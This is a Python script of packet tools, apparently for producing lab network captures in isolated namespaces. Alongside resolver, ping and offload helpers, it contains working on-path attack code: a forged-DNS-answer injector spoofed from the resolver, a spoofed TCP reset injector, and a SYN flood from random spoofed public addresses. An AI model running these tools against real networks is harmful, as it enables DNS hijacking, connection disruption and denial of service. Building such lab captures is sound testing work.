#!/usr/bin/env python3
"""tools.py: the small traffic tools of the scenario captures (standard
library only). Each runs inside a network namespace made by lib.sh; the real
clients and servers (curl, unbound, nginx, openssl) do everything else.

  tools.py nooffload IFACE...                        turn off checksum/segmentation offloads
  tools.py resolve SERVER NAME... [--tries N] [--wait S] [--type A|AAAA]
  tools.py ping ADDR                                 one ICMP echo (the end-of-capture mark)
  tools.py inject-dns IFACE RESOLVER FORGED SUFFIX...  (on-path: forged answers first)
  tools.py inject-rst IFACE SERVER PORT TTL AFTER_BYTES MAX_FLOWS  (on-path: resets)
  tools.py synflood DST PORT COUNT PPS               (spoofed public-looking sources)
  tools.py slowdns ADDR PORT DELAY NAME=IP...        (a slow authoritative server)
"""
import array
import fcntl
import os
import random
import socket
import struct
import sys
import time

# ---------------------------------------------------------------- offloads

SIOCETHTOOL = 0x8946
ETHTOOL_STXCSUM, ETHTOOL_SSG, ETHTOOL_STSO, ETHTOOL_SGSO, ETHTOOL_SGRO = 0x17, 0x19, 0x1f, 0x24, 0x2c


def nooffload(ifaces):
    """Checksums computed by software and segments no larger than the MTU, so
    that the capture shows packets as a wire would (veth offloads by default)."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for name in ifaces:
        for cmd in (ETHTOOL_STXCSUM, ETHTOOL_STSO, ETHTOOL_SGSO, ETHTOOL_SGRO):
            buf = array.array("B", struct.pack("II", cmd, 0))
            addr, _ = buf.buffer_info()
            try:
                fcntl.ioctl(s.fileno(), SIOCETHTOOL, struct.pack("16sP", name.encode(), addr))
            except OSError as e:
                print("nooffload: %s: command %#x: %s" % (name, cmd, e), file=sys.stderr)
    s.close()


# ---------------------------------------------------------------- packets

def qname_wire(name):
    out = b""
    for label in name.rstrip(".").split("."):
        out += bytes([len(label)]) + label.encode()
    return out + b"\0"


def qname_read(dns):
    """The question's name and the offset just past its QTYPE and QCLASS."""
    i, labels = 12, []
    while i < len(dns) and dns[i] and len(labels) < 64:
        labels.append(dns[i + 1:i + 1 + dns[i]].decode(errors="replace").lower())
        i += 1 + dns[i]
    qtype = struct.unpack("!H", dns[i + 1:i + 3])[0] if i + 3 <= len(dns) else 0
    return ".".join(labels), i + 5, qtype


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    s = (s >> 16) + (s & 0xffff)
    s += s >> 16
    return ~s & 0xffff


def ip4(src, dst, proto, payload, ttl=64, ipid=None):
    ipid = random.randrange(65536) if ipid is None else ipid
    h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), ipid, 0x4000, ttl, proto, 0,
                    socket.inet_aton(src), socket.inet_aton(dst))
    return h[:10] + struct.pack("!H", csum(h)) + h[12:] + payload


def udp4(src, dst, sport, dport, data):
    h = struct.pack("!HHHH", sport, dport, 8 + len(data), 0)
    pseudo = struct.pack("!4s4sBBH", socket.inet_aton(src), socket.inet_aton(dst), 0, 17, 8 + len(data))
    c = csum(pseudo + h + data) or 0xffff
    return h[:6] + struct.pack("!H", c) + data


def tcp4(src, dst, sport, dport, seq, ack, flags, win=0, opts=b""):
    h = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, (5 + len(opts) // 4) << 4, flags, win, 0, 0) + opts
    pseudo = struct.pack("!4s4sBBH", socket.inet_aton(src), socket.inet_aton(dst), 0, 6, len(h))
    c = csum(pseudo + h)
    return h[:16] + struct.pack("!H", c) + h[18:]


def raw_sender():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    return s


def sniffer(iface):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(0x0003))
    s.bind((iface, 0))
    s.settimeout(0.5)
    return s


def ipv4_of(frame):
    """(ip header+payload, header length) of an Ethernet IPv4 frame, or None."""
    if len(frame) < 34 or frame[12:14] != b"\x08\x00":
        return None
    ip = frame[14:]
    tot = struct.unpack("!H", ip[2:4])[0]
    return ip[:tot], (ip[0] & 15) * 4


def ready(path):
    """Tells the script that started us that we listen (a file it waits for)."""
    if path:
        with open(path, "w") as f:
            f.write("%d\n" % os.getpid())


# ---------------------------------------------------------------- tools

def resolve(server, names, tries=2, wait=2.0, qtype=1):
    """One query per name (retried), like a stub resolver that stays a moment
    after the answer, so that a second, raced answer lands on an open socket."""
    for name in names:
        qid = random.randrange(65536)
        q = struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + qname_wire(name) + struct.pack("!HH", qtype, 1)
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.connect((server, 53))
        s.settimeout(wait)
        got = None
        for _ in range(tries):
            try:
                s.send(q)
                got = s.recv(4096)
                break
            except socket.timeout:
                continue
            except OSError:  # port unreachable
                time.sleep(wait)
                continue
        s.settimeout(0.4)
        try:
            s.recv(4096)
        except (socket.timeout, OSError):
            pass
        s.close()
        print("%s rcode=%s" % (name, got[3] & 15 if got else "none"))


def ping(addr, wait=1.0):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    s.settimeout(wait)
    ident = os.getpid() & 0xffff
    body = struct.pack("!HHHH", 0x0800, 0, ident, 1) + b"panne-end-of-capture"
    body = body[:2] + struct.pack("!H", csum(body)) + body[4:]
    s.sendto(body, (addr, 0))
    try:
        s.recv(2048)
        print("ping %s: answered" % addr)
    except socket.timeout:
        print("ping %s: no answer" % addr)


def inject_dns(iface, resolver, forged, suffixes, limit=8, duration=40, ready_file=None):
    """On the path: answers queries to the resolver for names under the
    suffixes with a forged A record spoofed from the resolver, ahead of it."""
    rx, tx = sniffer(iface), raw_sender()
    ready(ready_file)
    end = time.time() + duration
    n = 0
    while time.time() < end and n < limit:
        try:
            frame, meta = rx.recvfrom(65535)
        except socket.timeout:
            continue
        if meta[2] == socket.PACKET_OUTGOING:
            continue
        p = ipv4_of(frame)
        if not p or p[0][9] != 17:
            continue
        ip, ihl = p
        src, dst = socket.inet_ntoa(ip[12:16]), socket.inet_ntoa(ip[16:20])
        udp = ip[ihl:]
        sport, dport = struct.unpack("!HH", udp[:4])
        dns = udp[8:]
        if dst != resolver or dport != 53 or len(dns) < 17 or dns[2] & 0x80:
            continue
        qname, qend, qtype = qname_read(dns)
        if not any(qname == s or qname.endswith("." + s) for s in suffixes):
            continue
        flags = 0x8180 | (dns[2] & 1) << 8
        an = 1 if qtype == 1 else 0
        ans = struct.pack("!HHHHHH", struct.unpack("!H", dns[:2])[0], flags, 1, an, 0, 0) + dns[12:qend]
        if an:
            ans += b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 3600, 4) + socket.inet_aton(forged)
        tx.sendto(ip4(dst, src, 17, udp4(dst, src, 53, sport, ans), ttl=64), (src, 0))
        n += 1
    print("inject-dns: forged %d answers" % n)


def inject_rst(iface, server, port, ttl, after_bytes, max_flows, duration=40, ready_file=None):
    """On the path: once a server->client stream carried after_bytes, sends
    the client one reset spoofed from the server, with the given TTL."""
    rx, tx = sniffer(iface), raw_sender()
    ready(ready_file)
    end = time.time() + duration
    seen, done = {}, set()
    while time.time() < end and len(done) < max_flows:
        try:
            frame, meta = rx.recvfrom(65535)
        except socket.timeout:
            continue
        if meta[2] != socket.PACKET_OUTGOING:  # forwarded toward the client
            continue
        p = ipv4_of(frame)
        if not p or p[0][9] != 6:
            continue
        ip, ihl = p
        src, dst = socket.inet_ntoa(ip[12:16]), socket.inet_ntoa(ip[16:20])
        tcp = ip[ihl:]
        sport, dport, seq = struct.unpack("!HHI", tcp[:8])
        plen = len(ip) - ihl - (tcp[12] >> 4) * 4
        key = (dst, dport)
        if src != server or sport != port or plen <= 0 or key in done:
            continue
        seen[key] = seen.get(key, 0) + plen
        if seen[key] >= after_bytes:
            seg = tcp4(src, dst, sport, dport, (seq + plen) & 0xffffffff, 0, 0x04)
            tx.sendto(ip4(src, dst, 6, seg, ttl=ttl), (dst, 0))
            done.add(key)
    print("inject-rst: reset %d flows" % len(done))


def spoofed_source():
    while True:
        a = random.randrange(1, 224)
        if a not in (10, 100, 127, 169, 172, 192, 198, 203):
            return "%d.%d.%d.%d" % (a, random.randrange(256), random.randrange(256), random.randrange(1, 255))


def synflood(dst, port, count, pps):
    """count SYNs from random spoofed, public-looking sources, at pps."""
    tx = raw_sender()
    gap = 1.0 / pps
    start = time.time()
    mss = struct.pack("!BBH", 2, 4, 1460)
    for i in range(count):
        src = spoofed_source()
        seg = tcp4(src, dst, random.randrange(1024, 65535), port, random.randrange(1 << 32), 0, 0x02, 64240, mss)
        tx.sendto(ip4(src, dst, 6, seg, ttl=random.choice((64, 128, 255)) - random.randrange(8)), (dst, 0))
        delay = start + (i + 1) * gap - time.time()
        if delay > 0:
            time.sleep(delay)
    print("synflood: %d SYNs sent" % count)


def slowdns(addr, port, delay, records, duration=60, ready_file=None):
    """A tiny authoritative server: A records from records, after delay."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((addr, port))
    s.settimeout(0.5)
    ready(ready_file)
    end = time.time() + duration
    while time.time() < end:
        try:
            q, peer = s.recvfrom(4096)
        except socket.timeout:
            continue
        if len(q) < 17 or q[2] & 0x80:
            continue
        name, qend, qtype = qname_read(q)
        a = records.get(name)
        time.sleep(delay)
        an = 1 if a and qtype == 1 else 0
        rcode = 0 if a or any(r.endswith("." + name) for r in records) else 3
        r = struct.pack("!HHHHHH", struct.unpack("!H", q[:2])[0], 0x8400 | rcode, 1, an, 0, 0) + q[12:qend]
        if an:
            r += b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 300, 4) + socket.inet_aton(a)
        s.sendto(r, peer)


def main(argv):
    if len(argv) < 2:
        sys.exit(__doc__)
    cmd, args = argv[1], argv[2:]
    ready_file = os.environ.get("READY")
    random.seed()
    if cmd == "nooffload":
        nooffload(args)
    elif cmd == "resolve":
        names, tries, wait, qtype = [], 2, 2.0, 1
        it = iter(args[1:])
        for a in it:
            if a == "--tries":
                tries = int(next(it))
            elif a == "--wait":
                wait = float(next(it))
            elif a == "--type":
                qtype = {"A": 1, "AAAA": 28}[next(it)]
            else:
                names.append(a)
        resolve(args[0], names, tries, wait, qtype)
    elif cmd == "ping":
        ping(args[0])
    elif cmd == "inject-dns":
        inject_dns(args[0], args[1], args[2], args[3:], ready_file=ready_file)
    elif cmd == "inject-rst":
        inject_rst(args[0], args[1], int(args[2]), int(args[3]), int(args[4]), int(args[5]),
                   ready_file=ready_file)
    elif cmd == "synflood":
        synflood(args[0], int(args[1]), int(args[2]), int(args[3]))
    elif cmd == "slowdns":
        recs = dict(a.lower().split("=", 1) for a in args[3:])
        slowdns(args[0], int(args[1]), float(args[2]), recs, ready_file=ready_file)
    else:
        sys.exit("tools.py: unknown command " + cmd)


if __name__ == "__main__":
    main(sys.argv)
